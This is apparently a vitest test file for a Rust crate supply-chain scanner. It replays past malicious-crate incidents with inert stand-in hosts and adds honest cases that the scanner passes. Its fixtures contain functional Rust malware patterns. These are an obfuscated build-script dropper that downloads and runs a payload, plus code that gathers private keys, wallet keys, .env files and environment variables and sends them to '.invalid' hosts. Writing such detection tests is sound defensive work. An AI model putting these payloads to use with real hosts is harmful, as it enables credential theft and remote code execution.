/**
 * Past attacks by their public timelines, with inert stand-ins: the same dates, yanks, owners and shapes of code, hosts that
 * cannot exist and programs that are nowhere. Each has to be held at the moment of publication, whatever disguise it
 * wears; the honest twins must not be.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { type Need, type Published, registryFolder } from './registry-folder.ts';
import { World } from './world.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');

/** A build script that joins and decodes an address, takes what is there, writes and starts it. */
const DROPPER = (main: string) => `
use std::io::{Read, Write};
fn table(text: &str) -> Vec<u8> {
    let set = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    let (mut bits, mut count) = (0u32, 0);
    for byte in text.bytes() {
        let Some(at) = set.iter().position(|it| *it == byte) else { continue };
        bits = (bits << 6) | at as u32;
        count += 6;
        if count >= 8 { count -= 8; out.push((bits >> count) as u8); }
    }
    out
}
${main} {
    let parts = ["${base64('lz-fixture.inv').replace(/=+$/, '')}", "${base64('alid:80')}"];
    let host = String::from_utf8(table(&parts.concat())).unwrap();
    let mut body = Vec::new();
    if let Ok(mut stream) = std::net::TcpStream::connect(host.as_str()) {
        let _ = stream.write_all(b"GET /INERT HTTP/1.0\\r\\n\\r\\n");
        let _ = stream.read_to_end(&mut body);
    }
    let path = std::env::temp_dir().join("lz-fixture-none");
    let _ = std::fs::write(&path, &body);
    let _ = std::process::Command::new(&path).stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null()).spawn();
}
`;

interface Found {
  readonly check: string;
  readonly severity: string;
  readonly decisive?: boolean;
  readonly evidence: readonly { readonly kind: string; readonly text: string }[];
}

describe('replays', () => {
  let world: World | undefined;
  afterEach(() => world?.remove());

  const scan = async (subject: string, published: readonly Published[], metadata: object, ...more: string[]) => {
    world = new World({ ...registryFolder('reg', published), 'metadata.json': JSON.stringify(metadata) });
    const args = ['scan', subject, '--registry', 'reg', '--metadata', 'metadata.json', '--offline', '--format', 'json'];
    const { code, out, err } = await world.run([...args, ...more]);
    expect(err).toBe('');
    const report = JSON.parse(out) as { level: string; because: string; findings: Found[] };
    const serious = report.findings.filter((it) => it.severity !== 'info' && it.severity !== 'note');
    return { code, level: report.level, because: report.because, report, checks: serious.map((it) => it.check) };
  };

  describe('an old crate gets a first-ever dependency that is four minutes old, its good versions are yanked', () => {
    const PUBLISHED = '2026-08-20T07:15:00Z';
    const OLD = ['0.3.5', '0.3.6', '0.3.7', '0.3.8', '0.3.9'];
    const carrier = (needs: readonly Need[], version = '0.3.10', files: Published['files'] = {}): Published[] => [
      ...OLD.map((old, at) => ({
        name: 'lz-fixture-array',
        version: old,
        at: `202${at}-01-01T00:00:00Z`,
        yanked: true,
      })),
      {
        name: 'lz-fixture-array',
        version,
        at: PUBLISHED,
        needs,
        files: { 'src/lib.rs': 'pub fn view() {}', ...files },
      },
    ];
    const clean: Published = { name: 'lz-fixture-macro1', version: '1.0.106', at: '2026-08-20T07:11:00Z' };
    const bad: Published = {
      name: 'lz-fixture-macro1',
      version: '1.0.107',
      at: '2026-08-20T07:11:30Z',
      fields: 'authors = ["Lz Tolnay <lz@example.org>"]',
      files: { 'build.rs': DROPPER('fn main()') },
    };
    const metadata = (version = '0.3.10', more: object = {}) => ({
      now: PUBLISHED,
      subject: { name: 'lz-fixture-array', version },
      popular: ['lz-fixture-macro2'],
      crates: {
        'lz-fixture-array': {
          created_at: '2015-01-01T00:00:00Z',
          downloads: 152_000_000,
          owners: [{ login: 'lz-owner', since: '2015-01-01T00:00:00Z' }],
          versions: OLD.map((num) => ({ num, yanked: true, yanked_at: '2026-08-20T07:14:00Z' })),
        },
        'lz-fixture-macro1': {
          created_at: '2026-08-20T07:11:00Z',
          downloads: 0,
          owners: [{ login: 'lz-dtolney', account_created: '2026-08-19T00:00:00Z' }],
        },
        'lz-fixture-macro2': { downloads: 900_000_000, owners: [{ login: 'lz-dtolnay' }] },
      },
      ...more,
    });

    it('is held by the combination, with all that points to it', async () => {
      const { code, level, checks, report } = await scan(
        'lz-fixture-array@0.3.10',
        [...carrier([{ name: 'lz-fixture-macro1' }]), clean, bad],
        metadata(),
      );
      expect([code, level]).toEqual([1, 'hold']);
      expect(checks).toEqual(
        expect.arrayContaining([
          'dependency-build-code',
          'dependency-verdict',
          'new-dependency',
          'mass-yank',
          'imitation',
          'similar-name',
        ]),
      );
      const decisive = report.findings.find((it) => it.check === 'dependency-build-code')!;
      const texts = decisive.evidence.map((it) => it.text).join('\n');
      expect(texts).toContain('lz-fixture-array → lz-fixture-macro1 1.0.107');
      expect(texts).toContain('first seen 4 minutes before');
      expect(texts).toContain('its build script calls std::net');
    });

    const below = (name: string, needs: readonly Need[]): Published => ({
      name,
      version: '1.0.0',
      at: '2026-08-20T07:12:00Z',
      needs,
      files: { 'src/lib.rs': 'pub fn nothing() {}' },
    });
    const macro: Published = {
      ...bad,
      version: '1.0.107',
      tables: '[lib]\nproc-macro = true\n',
      files: {
        'src/lib.rs': `use proc_macro::TokenStream;\n${DROPPER('fn run()')}\n#[proc_macro]\npub fn view(input: TokenStream) -> TokenStream { run(); input }\n`,
      },
    };
    const library: Published = { ...bad, files: { 'src/lib.rs': DROPPER('pub fn version()') } };
    const asks = { 'build.rs': 'fn main() { lz_fixture_macro1::version(); }' };

    it.each([
      ['renamed', [...carrier([{ name: 'lz-fixture-macro1', rename: 'quiet' }]), bad], '0.3.10'],
      ['in a procedural macro', [...carrier([{ name: 'lz-fixture-macro1' }]), macro], '0.3.10'],
      [
        'one level deeper',
        [
          ...carrier([{ name: 'lz-fixture-between' }]),
          below('lz-fixture-between', [{ name: 'lz-fixture-macro1' }]),
          bad,
        ],
        '0.3.10',
      ],
      [
        'below an old crate',
        [
          ...carrier([{ name: 'lz-fixture-between' }]),
          { ...below('lz-fixture-between', []), version: '0.9.0', at: '2019-01-01T00:00:00Z' },
          below('lz-fixture-between', [{ name: 'lz-fixture-macro1' }]),
          bad,
        ],
        '0.3.10',
      ],
      ['as a build-dependency', [...carrier([{ name: 'lz-fixture-macro1', kind: 'build' }]), bad], '0.3.10'],
      [
        'as a library that the build script calls',
        [...carrier([{ name: 'lz-fixture-macro1', kind: 'build' }], '0.3.10', asks), library],
        '0.3.10',
      ],
      ['in an old series', [...carrier([{ name: 'lz-fixture-macro1' }], '0.2.11'), bad], '0.2.11'],
      [
        'by a version that is not the latest',
        [...carrier([{ name: 'lz-fixture-macro1', req: '=1.0.107' }]), clean, bad, { ...clean, version: '1.0.108' }],
        '0.3.10',
      ],
    ] as const)('is held %s', async (_, published, version) => {
      const { level, checks } = await scan(`lz-fixture-array@${version}`, published, metadata(version));
      expect([level, checks]).toEqual(['hold', expect.arrayContaining(['dependency-verdict'])]);
      expect(checks).toContain('dependency-build-code');
    });

    it('is held without any metadata but the moment, and by the index alone', async () => {
      const published = [...carrier([{ name: 'lz-fixture-macro1' }]), bad];
      const least = { now: PUBLISHED, subject: { name: 'lz-fixture-array', version: '0.3.10' } };
      expect((await scan('lz-fixture-array@0.3.10', published, least)).level).toBe('hold');
    });

    it('is held when an old crate between was taken over an hour ago', async () => {
      const between = 'lz-fixture-between';
      const published = [
        { name: 'lz-fixture-top', version: '1.0.0', at: '2020-01-01T00:00:00Z' },
        { name: 'lz-fixture-top', version: '1.0.1', at: PUBLISHED, needs: [{ name: between }] },
        ...['1.0.0', '1.0.1', '1.0.2', '1.0.3'].map((version) => ({
          name: between,
          version,
          at: '2019-01-01T00:00:00Z',
        })),
        { ...bad, name: between, version: '1.0.4', at: '2026-08-20T06:15:00Z' },
      ];
      world = new World(registryFolder('reg', published));
      const args = ['scan', 'lz-fixture-top@1.0.1', '--registry', 'reg', '--offline', '--format', 'json'];
      const report = JSON.parse((await world.run(args)).out);
      expect([report.level, report.because]).toEqual(['hold', 'dependency-verdict is decisive by itself']);
    });

    it('is held where a list names the dependency, even after it was removed', async () => {
      const advisories = [{ id: 'MAL-0000-1', package: 'lz-fixture-macro1' }];
      const published = carrier([{ name: 'lz-fixture-macro1' }]);
      const { level, because } = await scan('lz-fixture-array@0.3.10', published, metadata('0.3.10', { advisories }));
      expect([level, because]).toEqual(['hold', 'known-malware is decisive by itself']);
    });

    it('is not held on dates, yanks and owners alone', async () => {
      const harmless = { ...bad, files: { 'build.rs': 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }' } };
      const published = [...carrier([{ name: 'lz-fixture-macro1' }]), harmless];
      expect((await scan('lz-fixture-array@0.3.10', published, metadata())).level).toBe('review');
    });

    it('asks where the dependency is only known by its dates and owners', async () => {
      const known = metadata();
      const crates = {
        ...known.crates,
        'lz-fixture-macro1': {
          ...known.crates['lz-fixture-macro1'],
          versions: [{ num: '1.0.107', pubtime: '2026-08-20T07:11:30Z' }],
        },
      };
      const published = carrier([{ name: 'lz-fixture-macro1' }]);
      const { level, checks } = await scan('lz-fixture-array@0.3.10', published, { ...known, crates });
      expect(level).toBe('review');
      expect(checks).toEqual(expect.arrayContaining(['new-dependency', 'mass-yank', 'imitation', 'similar-name']));
    });
  });

  it('a logger that is a clone and hunts for keys sends them at runtime', async () => {
    const source = `
pub fn pack(lines: &[String]) {
    let mut found = Vec::new();
    for line in lines {
        if let Some(at) = line.find("0x") { if line.len() >= at + 66 { found.push(line[at..at + 66].to_string()); } }
    }
    for entry in std::fs::read_dir("src").unwrap().flatten() {
        let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
        let keys = regex::Regex::new("0x[0-9a-fA-F]{64}").unwrap();
        for one in keys.find_iter(&text) { found.push(one.as_str().to_string()); }
    }
    let _ = reqwest::blocking::Client::new().post("https://lz-fixture.workers.example.invalid/INERT").body(found.join(",")).send();
}
`;
    const needs = [{ name: 'reqwest', req: '0.12' }, { name: 'regex' }];
    const at = '2025-05-25T00:00:00Z';
    const published = [{ name: 'lz-fixture-faster-log', version: '1.0.0', at, needs, files: { 'src/lib.rs': source } }];
    const metadata = {
      now: at,
      subject: { name: 'lz-fixture-faster-log', version: '1.0.0' },
      popular: ['lz-fixture-fast-log'],
      crates: { 'lz-fixture-faster-log': { created_at: at, owners: [{ login: 'lz-new', account_created: at }] } },
    };
    const { level } = await scan('lz-fixture-faster-log@1.0.0', published, metadata);
    expect(level).toBe('hold');
  });

  it('a name with a plural more reads a wallet key and sends it', async () => {
    const source = `
pub fn client() {
    let key = std::env::var("WALLET_PRIVATE_KEY").unwrap_or_default();
    let env = std::fs::read_to_string(".env").unwrap_or_default();
    let _ = ureq::post("https://lz-fixture.invalid/INERT").send_string(&format!("{key}{env}"));
}
`;
    const at = '2026-02-06T00:00:00Z';
    const name = 'lz-fixture-clients-sdk';
    const published = [
      { name, version: '0.1.0', at, needs: [{ name: 'ureq', req: '2' }], files: { 'src/lib.rs': source } },
    ];
    const crates = {
      [name]: { created_at: at, owners: [{ login: 'lz-new' }] },
      'lz-fixture-client-sdk': { created_at: '2024-01-01T00:00:00Z', downloads: 5_000, owners: [{ login: 'lz-real' }] },
    };
    const metadata = { now: at, subject: { name, version: '0.1.0' }, popular: ['lz-fixture-client-sdk'], crates };
    const { level, checks } = await scan(`${name}@0.1.0`, published, metadata);
    expect([level, checks]).toEqual(['hold', expect.arrayContaining(['similar-name'])]);
  });

  it('an internal name in version 9 whose build script sends what it finds', async () => {
    const build = `
fn main() {
    let mut all = String::new();
    for (name, value) in std::env::vars() { all.push_str(&format!("{name}={value};")); }
    let who = std::process::Command::new("whoami").output().unwrap();
    all.push_str(&String::from_utf8_lossy(&who.stdout));
    use std::io::Write;
    let mut to = std::net::TcpStream::connect("lz-fixture.invalid:80").unwrap();
    to.write_all(all.as_bytes()).unwrap();
}
`;
    const at = '2026-04-20T00:00:00Z';
    const name = 'lz-fixture-metrics';
    const published = [{ name, version: '9.0.1', at, files: { 'build.rs': build } }];
    const metadata = { now: at, subject: { name, version: '9.0.1' }, workspace_members: ['lz-fixture-metrics'] };
    const { level, checks } = await scan(`${name}@9.0.1`, published, metadata);
    expect([level, checks]).toEqual(['hold', expect.arrayContaining(['internal-name', 'build-network'])]);
  });

  describe('honest', () => {
    const at = '2026-08-20T07:15:00Z';
    const old = '2020-01-01T00:00:00Z';

    it('an update adds a popular old dependency', async () => {
      const popular = { name: 'lz-fixture-popular', version: '1.0.0', at: old };
      const published = [
        popular,
        { name: 'lz-fixture-app', version: '1.0.0', at: old },
        { name: 'lz-fixture-app', version: '1.0.1', at, needs: [{ name: 'lz-fixture-popular' }] },
      ];
      const crates = {
        'lz-fixture-popular': { created_at: old, downloads: 1e8, owners: [{ login: 'lz-other' }] },
        'lz-fixture-app': { created_at: old, owners: [{ login: 'lz-owner' }] },
      };
      const metadata = { now: at, subject: { name: 'lz-fixture-app', version: '1.0.1' }, crates };
      expect((await scan('lz-fixture-app@1.0.1', published, metadata)).checks).toEqual([]);
    });

    it('a project splits off a part with a build script that asks the compiler', async () => {
      const build = 'fn main() { std::process::Command::new("rustc").arg("--version").status().unwrap(); }';
      const published = [
        { name: 'lz-fixture-core', version: '1.0.0', at: '2026-08-20T07:11:00Z', files: { 'build.rs': build } },
        { name: 'lz-fixture-app', version: '1.0.0', at: old },
        { name: 'lz-fixture-app', version: '1.0.1', at, needs: [{ name: 'lz-fixture-core' }] },
      ];
      const owners = [{ login: 'lz-owner', since: old }];
      const crates = { 'lz-fixture-core': { owners }, 'lz-fixture-app': { created_at: old, owners } };
      const metadata = { now: at, subject: { name: 'lz-fixture-app', version: '1.0.1' }, crates };
      expect((await scan('lz-fixture-app@1.0.1', published, metadata)).checks).toEqual([]);
    });

    it('a first crate by a new owner', async () => {
      const crates = { 'lz-fixture-first': { created_at: at, owners: [{ login: 'lz-new', account_created: at }] } };
      const metadata = { now: at, subject: { name: 'lz-fixture-first', version: '0.1.0' }, crates };
      const published = [
        { name: 'lz-fixture-first', version: '0.1.0', at, files: { 'src/lib.rs': 'pub fn add() {}' } },
      ];
      const { level, checks } = await scan('lz-fixture-first@0.1.0', published, metadata);
      expect([level, checks]).toEqual(['clean', []]);
    });

    it('broken versions are yanked and repaired', async () => {
      const broken = ['1.0.0', '1.0.1', '1.0.2'];
      const name = 'lz-fixture-app';
      const published = [
        ...broken.map((version) => ({ name, version, at: old, yanked: true })),
        { name, version: '1.0.3', at },
      ];
      const versions = broken.map((num) => ({ num, yanked: true, yanked_at: '2026-08-20T07:00:00Z' }));
      const metadata = {
        now: at,
        subject: { name, version: '1.0.3' },
        crates: { [name]: { created_at: old, versions } },
      };
      const { level, checks } = await scan(`${name}@1.0.3`, published, metadata);
      expect([level, checks]).toEqual(['review', ['mass-yank']]);
    });
  });
});
